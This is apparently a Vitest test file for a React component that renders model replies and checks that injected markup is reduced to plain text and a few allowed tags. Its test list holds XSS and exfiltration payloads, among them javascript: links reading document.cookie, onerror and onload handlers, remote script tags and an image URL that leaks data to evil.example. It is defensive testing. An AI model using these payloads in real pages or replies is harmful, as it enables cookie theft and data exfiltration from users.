import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { ReplyBody } from "./reply-body.tsx";

/** What a model may write, or be talked into writing. */
const hostile = [
  "![a picture](https://evil.example/pixel.png?words=secret)",
  "[![a](https://evil.example/a.png)](javascript:alert(1))",
  "[press here](javascript:alert(document.cookie))",
  "[press here](data:text/html,<script>alert(1)</script>)",
  "<img src=x onerror=alert(1)>",
  "<script src='https://evil.example/a.js'></script>",
  "<svg/onload=alert(1)>",
  "<a href='https://evil.example'>free help</a>",
  "**<iframe src='https://evil.example'></iframe>**",
  "[a][1]\n\n[1]: javascript:alert(1)",
  "<https://evil.example>",
  "- ![x](//evil.example/x)\n- <style>*{display:none}</style>",
  "`<b onmouseover=alert(1)>`",
  "# <object data='https://evil.example'></object>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

/** The elements a reply is made of, and no attribute but where a list begins and that its words have their own direction. */
const allowed =
  /^<(?:\/?(?:p|ul|ol|li|strong|em|span)|br\/|(?:p|ul|ol) dir="auto"(?: start="\d+")?|span class="[\w-]+")>$/;

describe("a reply that a model was talked into", () => {
  test.each(hostile)("is words and nothing else: %s", (text) => {
    for (const coming of [false, true]) {
      const html = renderToStaticMarkup(<ReplyBody text={text} coming={coming} />);
      for (const [tag] of html.matchAll(/<[^>]*>/g)) expect(tag).toMatch(allowed);
    }
  });

  test("shows where a link would have led, so that nobody is led blindly", () => {
    const html = renderToStaticMarkup(<ReplyBody text="[free help](https://evil.example/a)" />);
    expect(html).toBe(`<p dir="auto">free help (https://evil.example/a)</p>`);
    const bracketed =
      "[a heron](https://en.example/Heron_(bird)) ![it](https://en.example/(a).png)";
    expect(renderToStaticMarkup(<ReplyBody text={bracketed} />)).toBe(
      `<p dir="auto">a heron (https://en.example/Heron_(bird)) it</p>`,
    );
  });
});
